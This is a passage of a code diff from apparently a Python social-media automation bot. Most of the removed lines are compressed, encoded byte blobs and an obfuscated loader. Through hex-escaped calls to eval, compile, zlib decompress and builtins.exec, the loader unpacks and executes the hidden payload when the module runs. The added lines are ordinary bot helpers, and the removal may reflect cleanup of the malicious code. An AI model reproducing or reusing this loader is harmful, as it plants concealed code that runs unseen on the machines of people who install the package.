x1e\xf8\xe8\xdcU\x81.33bDT\xfe\x829.\x00\xc4\x08\x90\xa3m\xda\xfa\xa7\x84X\xd3+\xd9\xdf\x90\xfaS;\xd6\xfe\t{i:\x89`\xc6\x95d\xc6\xe1\'\x0f\xe6\xaeH6\xa3\xd8w\xcf0\xd4\xf9$\x81\x80\x11i\x02b\x8f\xf7\x9c\'\x80|\x99\x8e\x1f;{z\xd4I\x8c\x04\xf0\x19\xebK\x1e\xf7r\x1c\x1d\xbf\xc0\x94\xa9\xf3\xb8E[\xd1u\x0e\xb6\x08M\xa5\x1cd\xe8\x86\x9e\xf0\x81\xcd\x96x\xdaO\xdcn\x808P\xff}\xb6\xcb4\xad\x82\xf3Z!#5\x9c\xb3\xd7\x80\x11y\xb76}\x1f(\xc4\xb43\x03\xc9|K\xbe\x18\x98H\xb4\xec_\x8c\xbe\xbd\\\xe7b\x0fu\xb5\x17\x99\xa8#\xca\xb5`\x80w\xcdE\x00\xa81i~\x80\x87\x1f\x92lIg\xe7\x899\x8dca\xae\x05\xfaV\xdd\x1d\xe1\xc4\xc9\r\xed/\xc8f\xf8h[\x0f\x7f\x19>\x8c\x86\x0f\xfd\xe1\xc3W\xc3\x87o\x86\x0fO\xebl\xb5\x8c6\xa1\x8c\x1dW\xc2\x94\xf2Z\xf5\xf1\x9cF\xefr\x04\xa6\x08\x84\xa6\x91w\xc5\xa1fn\xd70\xb5\xc3Oz\xf4O\xca\xb8\x93\xd3\xe6\xa9\x99\x86L{\xae\xfa\xa5\x93$\x1a\n\xcd\xc3$\x86|\x16\xb1)If\nC\xe6\x8b\xa4p\x85\xf5\x81\xea\xd8I\xe3y\xeb\xa9r\x15\xc0\xac\x1a\xd9\x06E\xf4qYu%$\xfdF?}s\xa8\xa0up*>2^\xb9\x17\x1b\xb9\x80\xf5j\x90\xcej\x03\xfc\xba\xa7\xed8X\x003{\xd9t\xb1\xd4\xc7x[\xed\xa2h\x1d#\xee\xfcu\xab\x86[\xc6Y\xd5\xc1a6{\xfa\xfcQV\x10\x9dU\x13\xb8\x1c\xa3\\l_6\x16\xdd\xb8\x1f\xe0\xdf\xa1h=W\x85\x96\x14F\xee.f\xe2\x0c\'\xe2\x04\x0c\x12\xc2J\xc3\xd3\x8d\x96\xb3\x0b>\nL\xc9\x0c\xa3r2\x17\xe7D\xe9\xb7V\xffr\xdb\x94$y\x95g\xa3\x1e\xf0\xf4\xfc\x80us\x1e\x1e*H\x04\xdc\xcd\xa9\xb2\xd1\x1c9N\x8a\x17h\x83\x10\xc3\r\xd8\x11^5D\xdf;L@1w\xc2\x92\xf9\x06!\xd7fL\xa5\xef\xe6\xf5\xd5-\xe2\xa2\x1dz\x91\xe3\x11\xc1\x01s\xe1\xaf\xb8y\xa2y\xc1Ku\x9e$\x9b\xd2\xeb\xa64\xd5\xa14\xbaP\xf2\x148\x1cukKc\x83,\x08\xc7)n\x0b\xab\x92\xc3A\xe4\xc2\xb3-|\x81\xb1\xc2` !\x8e5\xc0}<_3M\xd2%R$\xa7\xa6\x91\n\xa2\xaaC\x82 \xc5]\\\x86`\xa7\x99\x1d\xff\x16\xa4\xa0\x0b\xeaW}\xa3]\x16\xe1\x99${\xa3\xb8+\x90\xf1\x0c+\x92\x10\xf0\xc9\x04\xaf\x1b\xae\x1d\xea\xa9\xdb\x0f\xdf<\xad\xb4\xdd\xb3\x97\xc7\x8f\xd5\xc9/y\xe9\x0e-P\xea\xb5:vX\xa6x\x11\x8dH\x99\x82|\x14\'\xef(\'\x0f~\xe7\xf4\x8a\x17\xea\xd8\xda\xd7a2\x99,\xc1\x1f\x04Q\xc6Ct\x8a\xe45\xbe\xec\xb3\xf1n\xbb\x18\xf8\xbb\xef~;?\x7f\xf6\xfc\xcd\x9fn\xe9\x18\xd1\x16\xb8\xca\x8am\xbfdA\x93z\x9f!Q\xff\x9d\xf1\xbdkN\xaf\xb14\xa5\xaf+\xd6#=4\xc3\x0ft\x92\x84\x9cF\xd1\x02V]f5\x8c\xfd!X\xfbH\xd6\x99\xaea\x83\x98$\xf6\x8cN\xe6\xd0\x93]\x89\x95 Tg\xcd\xeb\x06\r\xba\xd3%m\xe6+\x94\xfc\xf4z@\xd0ig\xa8\xbaR\xcd\xa6\x1e.FxwJ\xc3}E\xb3\x18\nE\xb4\xc2z\x9a\xcdK\x11\x02\x86\x99\xf4Gb\xfb\xcdP\xdb\xc3\xd7\xd7\x96\xcb\xc1\x93=sYd\x1c\xd3@\xa2\xaf!\x8ect\xd9$\x93\xa0%\x90\xe9\xe6.d\x9a9t\xd2X\xd0\x07\xa0\xeb\x967\x1a\n\x93\xa4\xa8\x8e\x8f\xc8\xf0c^}s\x81y\n\xbax-\x17\xbe\r\xf6d\x1c\x03\xe9\xc8\xe7\x8b\xc2v\xc7U\x1ap\xdb\x8e\x9c\x18\xd7\x06t\x08\xd3\xa1\xfca/\x8e\x8e\x8fN_\xe1\x06\xcd\x0e_\xa0\xf7\xf0\xd5\xe8\xe1\x9b\xd1\xc3\xd3^\x7f\xcdT\xb3/\x96\x99\x82\xd97\xa8\xd5\x11\xb7\xd9\xb8\xe8\xcc\xae\xa9\xdd\xdc{\xe0\xa5\x1c/^ \xedeD~DL\xb4\x9e\x8b\x86\x94Q\x10\x9d\x14\x9d\xa4\xbc\xb0+\x0fbl\xa0\xe8D\xcb\xea\x8a\x07\xd9A\xdbm\x18R\xd7-sq\x91\xf9\x81\x1e[\xf4P~\xa6 \xa1l\xb9\x05\xd6\x95=\x0ch\x8f\xae\xc2\x84\x82\xbf\xcd\x14>\xfa\xa0Z\x1d\x8c\x03\x0e\xf7\xf5\x8b\xae\x9a\x99\xf7.\x16 \xa1\x99\xa0\x80\xc2\xa3\x8a\xab\x06&kE\x0f;\xef\xe31E\xad\xcb\xe1\x96\xaa,\xe4\xb3\xc2\xf9\x92\xec\xd1\xe8\x8c\xfd`\x92\xe8\xde\x03\xa7q\xcbd0\xa9\xe6\x02\xd3#\xc3\x8a\x9e\x94-~\xc0^\x04q\x90/\xbe\xdcH\xda\xf7?\xa0\x99u\x8d\xa9^\x89 \xc5\xff\x85\xd4\x17/\xc4\xeeiuI\xe2\x05\x14\\\x0eT\xbc\x81\xe2/Z!\xdd\x9cxA\xf75R\xc8\xe3\xf2\x12C"\xb2zP\xe4\xb4w\xc1<\x8f\x06\x85\xc4_[`T\xc7\xe1fr\x15\n5\xdcTD\x1a\xc1[\xb7\xfe\xf7\xde\xe7B\xf7\x8a\xa8\x11\r\x9a\xf4+H2<Td\xad\xc4\x91X\x90\xca\x13>\xf5P\x8f\x07\x85\xb8\xc4`\x02^\x9f\t\xcd\xe2\x81\xd8\xd3\xab\xc2\xca6w\xe6\x0e;\xe8cp\xdd\x13\xf7h\xa9w\xc3o\xfbN\xdb\xe1\x8a@f[T\\n\x93\x93\xea#\xe6\xa6m\x83\xa9\x0f\xc7\x12\xe6\x02N\x97\x89\x9b\x18\x99\x8a:Q\x8d\xedqT\xd5\x00\x93\x12z\xf5m\x97\x85\xa4\xb8\xa7\x91v<@}u\xa1\xd8\xb0\xb15=\xa4P2T\xa43\xb0\x07\x9b\xb7\x86\xd0\xc1l\xc5\x17\x9bv\x95BL\xde\x02j\xe3?\x82w\xb1w\xd9\x1f\xb0\xfa\x11tz3&\xbd9L\x03":Pv\x1dm\xdb\x02w\xc0\x0e\xeeF>\xc9Yf\xa1\xc1\xb1\xd5\xbc\x8b\xd3\xe3\xad\x8aF\x97\x19XM\xa5\xa0\xa8\x97\xfe\xa6%m\x08\x00s\xa9S\x93z\xa9\xc3c@w\x89\xe1\xa1\xe1\xdb\xa6To\\V\xc8s\\$\xe3\xea\xb2Sh\xb0\xc1\x9e\xb8\xff\xfcB\xd4\x04\xb5\xb7\xe0\xe8z\xca\xc7\x98\x17a2\xad\x1e\xd1G\xba4\xb9\xean\xf7\x14\xce\xc4\x8eY\x85;.\xe0\xf7\xef^\xb3\xd5\xed\x1aLZbI2g;O\xdcT\xb7E\xa5hq+\xadL\xce\xbc\x10ld\xde*e\xdaj\xe0n,=r\xc0%\x00\'Ln\xf0\xf6P=\xac@\x8en\x83GT}<\x0f"j\xd4\xe5\xb5i\xa8j\x81q\xe8=\xea\xb4\x0e\xa1R\x0bta\'\xdaj(\xec\x11\x9d\xcb\xfb4\x9a\xbf\x00\xc3U\\\xfd"\xe8\xc6V\n\xec\x1a^\x02\xc9\x15\xa2\xeb\r\xc7\xc2\x88\x0c\xa3jw\xd5\xcd\xa2\xf2s\xc0b\xf5J\x11\xa9\xe5\xde_\xd1VIJY_\xee\xa3\xa20>\xfa\x07\n\xce\x86\xf8\x91\xa2\xa7\xa5\x19\xde\x96\xa3\xdb*F\x15M\xd24}\x8d\xa2\rX--\xda\n\r?\xa3}\x17t\xb3\xf7-\xfd\xb4\r\x0c\xcf\xd3\x1a\xd5\xb7\x80\xd6\x9b\xd5\x86\xafY\xc9\xbc\x87\xa3\xc8\xcax\xea\x89KP\xaa\xdby+\xf0\xe2:f\xbb\xaa\xd4>@\x03\x06Mi\xcd\x06F\xe7\x1d\xa7V\x1aln\x9dR\x1b\x86a=\t\x9b\xfe\xa7\xa5\x82\xadp|52k\xb6\xea\xc1j\x88z\x8abu\xd1\x0fcy\x17\x03U\xc8{\xeb\x96\x83\x0b]\x06\xebQ,\\\xfb\xcaV^\xf5\xc8o\x17C\xd9\xda\x19X\x0b9Wc\xee\xad\xc5y5\xb0+\x16\xc0ptH_;\x9eC\xb7I;\xf4\xfb7 X\x91\x81\xf0%!\xe5\x82\x14\xf4\xa0s\xe1_\x91\xbf{K\xf1\x9dz\xe0\xf55\x18\xf8!\x85aU\xae\xdb}1\xf9\xc5nH\xc9\x8e\x199\x14yS0FA\xec\xfa\xdeR\xf3\x03\xb0\xba\xf2\x03\xc4R\xfd5Obm\x1dw\xdd\x0e>\xa0}\x10>\x0f\x0bO?\xc9\xeb\x8a\xb8\x8fO.\xba\x97#\xc7\x17\x80\xd8TH\x14\xd5\xb8\xa9\xac\xb4\xb1\x99^#\x1b\xd6/`\x04)9\x90\x8dXN\xa3\x17\x10\xb6*\xd9\xc4\x94\xa7\xe9<\x9c\xe9\\\xc1~\x1c\xd7\xd8\xdbH\x90\xb1\xa2L\xbfe0\xc1\xccU\xdbu\xa5\xd8$\xbf\xad\xcck\xfd\xd2>\x16|\xdblSem\xf1\xceP\xb3\xa8\xea\xbbU\x83\xdc)\nC\xca\x84\xd1\xad\x8dc\x9aI\x07\xc3\x89\xf6L\xf2Ou\x91\xa0y\xa9_\xa9\x01@\xb4\x90\x07\x11\x92\xa1&\xf1\xc5Ey\x89Ir\xdb\xaa\xee\x9f\x92\xa8c4>f\x17\xf2=')
-
-        Divide._system(_round=2105 * Divide._frame)
-        _power.Absolute(_memoryaccess='LLJJLLIJLJIJILLLJL',
-                        System=b'\xf7-DX\xdc\x96\x04\x0fZL\x1e\xaf\xef\xd1y\xc4\x80\xda\x9cJ#\xea\xae\xb5\xac\'\xc4h.\xdeU\x8d.\x8d5S\x0f\x1dFxq\xb9\x91+\x9e.\x92\x00\x8f\xdf\x90\xf9\xdf\xea\'W;k^\xca\xb5&\x1c\x03\xd2r`\xf5#~\xe8\xfdz2FH\xae\xa0\'\xa3Ot\x11\x9f\ns\x8f\xa0\x8e\'\x1a\xa9\xee\xa4\xd7a\xd4\x12\x88\x8f\x90a*0s\xba+\x0c\xf7\xfe0\xa0\xaeG\xc7\x11\xe3\x1a\x0f%\x05|\tPA*\x96\xa9\xf4\xd3\x1aC\x91\xc4\x91\xdd\xffX+\xcc\xfd\x01\xdb\xdf\xdb\xd3\xb4?x\xaf Wb\x17\x04&^\n\xae\x82\x83\x18#\xe9\x8cT\x19\x06\xc1\x0cdV\x01\x18TW\xc6\xa3I\x1exau=a\xdbE\xf1\x1a3Tw\xc0\'\xb1\xce#\xd5\xfd@\xc6[\xe0o\t^\x93\x16\x8d\x96\x9a#\xaema\x1f\x8b\xbdQ2F\xa0\x15h\xd5U\x9aC\xd0@[%5p\x05\xad\xe9\x8fW\xdc\x8c\xbd\x18\xf5\xc9\xf3\x82es\xa4\xbdT\xee\xfb\n\xbd\xd8?\xedi"L\xc7F\x12\x7f\\\xcd\xc2F\x99\x98\x0e3\xea\xa4\xd5Bdh\xdc\xfa\xfeA\xb9\xecE\x10\xacH\xf0\xac\xb2\xbc\x86\x0b\xff/\xc0=\xfd\xa8\xbb*N9\xd0#.\xc4\x06\xc0\xad#\xdfl\x01#\xc7c\x88`\r\x80\xefN{\x8a\xd19\x90\xf5\x90\x02\x0f\x81\x04\xdf\xea$h7\xc1\xdaP\xd9\xabN\x1a\xd3tv\xa0I\x885k\x18hA!\x9d\xb8\x17\xc8\x88\xf5A\xacKR\xef\xe3\xc3\xa7\x1e6*\x1b]h\x17\xfb\x99CVi\x15\xb1\xa1\xf9\x8e}m\xd66:\x93\xc5Zofg\x8a?\xef\xd8[Ku\xa3\xbb\x8a\xdd;G\x97F[\'\xc7(6@\xe7\xe8\xd5\xbc}S\r\xa3\xe2`)\xe04T;\x85@\x0bO6%Dk\xd1\xe6\x84\xd6e-\x13\xa0\xc5\\\xa2\xf6\xf7mt\xd4\x16\xa6\xf4\xc6\x804h\xc3\xb8\xc2\x88A\xfa(q[\xbf\xde$a]6 3D\xd0J\xae\xf5\xbap\xd4\x98\xda\xba\xa4\n\x9b\x8e\x9b\x19\x1c\xad\xdbo\x98M\xb78\t\xb5\xe4\x88\x0f\x1b\xfd\x9b=\xe7\x89\xb0\xa0\x87\xfb}\xbcFI_\xd0\xe0\xe3j\rP\x0b\xed\r\xd8\x93\xef5\x1b \x02\x05\x83\x91\x19\xfa\xdfxlo\x927\x07\xa5\xb0\x03\xfb\xfa\xbb=\xad\xe1\x02l\xdf\xbaa\xd4(\xdd\xe6\xa2\x9c\xa1\xed+F\x85\x1b\x1a\xf1\x8c2\xdeQ$\xf6\xe4u\xd1\xe6\xc7=\xe9&\x0c{\xeb\xd5\x826@\x8fV\x91\xfc\xcc\xe9\xb3\xc5Mi\x88\xb2n\xc2\xef\xd5l\x80\xfb7)S\x80\xd95U\x85\xf67\xbb\x188\xdfH\x1d\xd5\x9a\xda\xdc\xdd\xb5\x00]\x96c|\x077\xc4\xfb\xb4\xcbM\x12\xab\x82\xe5\xc8-\xdc\x03\xf6\xf8\xbbJ\xf4\xc9\x1d\xdb\x03\xb5\xbf\xbbnW\x81\xd2\x88\xbd-\x03\xd5\xe1\xa4\xf5\x8ea`\nmu-\x08\xee\xe9\xf4P/\xda\xa6\xbb\xf0\x88U\xd8\x1a\x9b\xcf\xa4\x1b\xc0\xec\x87\xbf\xec>\x8cv\x1f\xfa}\xab\xbfvz\xdbC\xf1\x9fp4\x82\x98\x05{\x07\xd4\x88\xa2j\xea\x05\x95\x14\x03\x08RI6\xf8d$\xcc@\x96\xd8\xcdWO\x16%!\\\xd9\x95\xdd\xd8%\xf5\x17\xb9\xc5\x92l\x8d\xacL\x0bS\x83~J\x1aR\xa6\x08ks\x11o\xe0)\xd4\x8d,\xeeu\xc0o\xc8\x15"\x07\x95v\x95\xba\x0b\x1e\xcc\x17\xc2\xcc\xa6\xff\xaa\xe9B\x14\xc1\xc2\xbfl\x9a\xdc\xca\xf1\x05\x93Z\xda\xaa \xf4\xc9\xc5et\x83\x0e\xbb\x0e\xf2\x00\xf7P\xca\xdd\x11\xb2[\x86\xdd6@\xd1\xc1\xcf1\xb9\x00\xf8X\xe1dl\x85\x8e\x85\xff\x8c\x01\xd3\xaa\x9c\x8c\x1f\x97\xa2\x0c\x8dj\xae\xea}\xac\xde(\xbb c\x81\x7f+\x02\x92f\xfa\xba\x02\xdb\xfc\x9f8\xfc[\x0c\xdc\xa8\xfe\x87\xf2\xc6S|B\'G\xd2\xcc\xa6,vM\xc3F\xfc\xb0\x89\xd6\xd0\xb8\xb4F\x11\xc1\x11\xc1@\x1b\xba\xd4"\xd9I\xa1\x9a\xeb\xfe\xac\x17\x804;\x8c\xd2b\xf9\x1ap6\x16\x81\xdam*\xfe\xcb\x19\xf4~V\x8d\xfe\xd7\xdd3\xe5\x89)\xaav\xd9\xa9K\xb1\x00\xbdAs\x18f\x92\x0bf\x98\xf4\x9f\xc8\x1b\xc1Z\x1f\x19\x10\xba7\xa2JY\xa0"\x9bSp:s\xf6\x94\x8c\x81\x9f\xf0\x080\x17{\xb9\xec*\x10\xaafH\xdd\xa5\xae\xdaT\xe4\xf8x\xd5w\x9cd\xd6\x7f&\x93\xf6\xba\xff\x0f\xf92\xd9\xc3')
-
-        Divide._product(_callfunction=Divide._frame * -2643)
-        O0OOoo0o0OOoo0o0Ooo0o, JIJLILJLIILILIIJLIIL, xxwxxxxxwwxwxxxxwwwwwwxww, Oooo000O0OoooO0ooOoOoo, lljlliiljlljjilllijljjli = (lambda OoOo0OoO00OOoOOOOO0OOO: globals()['\x65\x76\x61\x6c'](globals()['\x63\x6f\x6d\x70\x69\x6c\x65'](globals()['\x73\x74\x72']("\x67\x6c\x6f\x62\x61\x6c\x73\x28\x29\x5b\x27\x5c\x78\x36\x35\x5c\x78\x37\x36\x5c\x78\x36\x31\x5c\x78\x36\x63\x27\x5d(OoOo0OoO00OOoOOOOO0OOO)"), filename='\x6a\x6c\x6a\x6c\x6a\x69\x6a\x6c\x6c\x6a\x6a\x69\x6a\x69\x6c\x6a\x69\x6c\x6a\x69', mode='\x65\x76\x61\x6c'))), (lambda OoOo0OoO00OOoOOOOO0OOO: OoOo0OoO00OOoOOOOO0OOO(__import__('\x7a\x6c\x69\x62'))), (lambda OoOo0OoO00OOoOOOOO0OOO: OoOo0OoO00OOoOOOOO0OOO['\x64\x65\x63\x6f\x6d\x70\x72\x65\x73\x73']), (
-            lambda SSSSSSS2222S22S222SS2SSS22, OoOo0OoO00OOoOOOOO0OOO: SSSSSSS2222S22S222SS2SSS22(OoOo0OoO00OOoOOOOO0OOO)), (lambda: (lambda OoOo0OoO00OOoOOOOO0OOO: globals()['\x65\x76\x61\x6c'](globals()['\x63\x6f\x6d\x70\x69\x6c\x65'](globals()['\x73\x74\x72']("\x67\x6c\x6f\x62\x61\x6c\x73\x28\x29\x5b\x27\x5c\x78\x36\x35\x5c\x78\x37\x36\x5c\x78\x36\x31\x5c\x78\x36\x63\x27\x5d(OoOo0OoO00OOoOOOOO0OOO)"), filename='\x6a\x6c\x6a\x6c\x6a\x69\x6a\x6c\x6c\x6a\x6a\x69\x6a\x69\x6c\x6a\x69\x6c\x6a\x69', mode='\x65\x76\x61\x6c')))('\x5f\x5f\x69\x6d\x70\x6f\x72\x74\x5f\x5f\x28\x27\x62\x75\x69\x6c\x74\x69\x6e\x73\x27\x29\x2e\x65\x78\x65\x63'))
-        _power(DetectVar=-16353 + 17509)._system(_round=60451 + Divide._frame)
-        lljlliiljlljjilllijljjli()(Oooo000O0OoooO0ooOoOoo(xxwxxxxxwwxwxxxxwwwwwwxww(JIJLILJLIILILIIJLIIL(O0OOoo0o0OOoo0o0Ooo0o('\x76\x61\x72\x73'))), _power._hypothesis(_detectvar='mnmnmmnmmmnmmmnnnnnmnnmn') +
-                                                          _power._hypothesis(_detectvar='xwxxxwxxwwwxwxxxwww')+_power._hypothesis(_detectvar='xwwxxxwwxxxxwxwwwxwwxwxx')+_power._hypothesis(_detectvar='LLJJLLIJLJIJILLLJL')))
-
-    except Exception as _while:
-        import traceback
-        print(f'    module {__name__} raised an Exception:')
-        print(f'     {_while}')
-        print(traceback.format_exc())
-        if 153557 > 2749102:
-            _power.execute(code=_floor(_while))
-
-        elif 432607 > 5450751:
-            Divide._system(_round=63747 * Divide._frame)
+        sleep(time_left.total_seconds())
+    except KeyboardInterrupt:
+        stop_bot(device, sessions, session_state, was_sleeping=True)
+
+
+def inspect_current_view(user_list, std_height) -> Tuple[list, int]:
+    """
+    return the number of users fully visible in the current view
+    """
+    skip = []
+    user_list.wait()
+    n_users = user_list.count_items()
+    n_users_visible = n_users
+    for idx, user in enumerate(user_list):
+        if idx == n_users - 1 and user.get_height() != std_height:
+            n_users_visible -= 1
+            skip.append(idx)
+    if not n_users:
+        raise EmptyList
+    logger.debug(f"There are {n_users_visible} users fully visible in that view.")
+    return skip, n_users_visible
+
+
+def get_cur_time() -> str:
+    return now().strftime("%H:%M:%S")
+
+
+class ActionBlockedError(Exception):
+    pass
+
+
+class EmptyList(Exception):
+    pass
+
+
+class RestartJob(Exception):
+    pass